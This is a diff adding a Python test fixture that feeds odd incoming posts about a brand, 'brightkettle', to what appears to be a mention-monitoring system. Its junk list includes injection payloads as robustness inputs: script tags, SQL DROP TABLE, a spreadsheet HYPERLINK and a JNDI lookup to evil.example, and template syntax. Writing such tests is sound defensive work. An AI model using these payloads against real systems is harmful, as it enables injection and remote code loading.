@@ -1,0 +1,81 @@
+"""What also arrives: junk that must be taken, repeats that must be counted once, items that must be refused."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Any
+
+from infra.scenario.timeline import ONSET
+
+
+@dataclass(frozen=True, slots=True)
+class Oddity:
+    """An item out of the ordinary and what must become of it.
+
+    ``minute`` is when it is handed in, ``age`` how many minutes before that it was
+    published (``None``: the item says nothing of it, or something of its own).
+    """
+
+    minute: int
+    item: dict[str, Any]
+    age: int | None = 0
+    refused: bool = False
+
+
+def oddities() -> list[Oddity]:
+    """All of them, in the order in which they arrive."""
+    return sorted([*_junk(), *_undated(), *_late(), *_refused()], key=lambda oddity: oddity.minute)
+
+
+def _junk() -> list[Oddity]:
+    texts = (
+        (75, "brightkettle \x00\x00 morning\x07 tea"),
+        (190, "brightkettle \ud83d half an emoji"),
+        (310, "\u202ebrightkettle morning\u202c \u200f\u200e\ufeff"),
+        (430, "🫖" * 4_000),
+        (550, "brightkettle " + "lorem kettle ipsum " * 5_400),
+        (670, '<script>alert("brightkettle")</script><img src=x onerror=alert(1)> nice kettle <b>bold</b>'),
+        (ONSET + 9, "Brightkettle on fire!\r\nSTOP\nReply YES to win +10000000000 \x1b[31m"),
+        (ONSET + 14, "'; DROP TABLE mentions; -- brightkettle melted, horrible"),
+        (ONSET + 16, '=HYPERLINK("http://evil.example","brightkettle refund") {{7*7}} ${jndi:ldap://evil.example/a}'),
+        (ONSET + 18, "b̷͓̞r̶̺̈i̸͇͝g̷̻̚h̴̰̆t̵̪̄kettle melted, h̷o̷r̷r̷i̷b̷l̷e̷"),
+        (ONSET + 27, "KETTLE" * 2_000),
+    )
+    return [Oddity(minute, _item(f"junk-{n}", text)) for n, (minute, text) in enumerate(texts)]
+
+
+def _undated() -> list[Oddity]:
+    return [
+        Oddity(130, _item("undated-0", "no clock on this forum, but a nice brightkettle"), age=None),
+        Oddity(700, _item("undated-1", "brightkettle, date unknown", published_at=None), age=None),
+        Oddity(ONSET + 11, _item("undated-2", "melted base, terrible smell, no timestamp here"), age=None),
+        Oddity(
+            ONSET + 20,
+            _item(
+                "tomorrow", "posting from the future: brightkettle still on fire", published_at="2099-01-01T00:00:00Z"
+            ),
+            age=None,
+        ),
+    ]
+
+
+def _late() -> list[Oddity]:
+    return [
+        Oddity(720, _item("late-0", "found this brightkettle post in my drafts"), age=9 * 60),
+        Oddity(ONSET + 25, _item("late-1", "brightkettle base was warm this morning already, worrying"), age=7 * 60),
+        Oddity(ONSET + 70, _item("late-2", "sent from the train, no signal: burnt base, awful"), age=45),
+        Oddity(ONSET + 120, _item("late-3", "slow forum, old news: is the brightkettle safe?"), age=80),
+    ]
+
+
+def _refused() -> list[Oddity]:
+    return [
+        Oddity(240, _item("bad-date", "brightkettle", published_at="the day before yesterday"), age=None, refused=True),
+        Oddity(360, _item("stranger", "about somebody else", brand="no-such-brand"), refused=True),
+        Oddity(480, _item("", "brightkettle without an id"), refused=True),
+        Oddity(ONSET + 13, _item("bad-reach", "brightkettle melted", reach="many"), refused=True),
+    ]
+
+
+def _item(name: str, text: str, **others: object) -> dict[str, Any]:
+    return {"channel": "webhook", "id": name, "text": text, "author": f"author of {name}", **others}
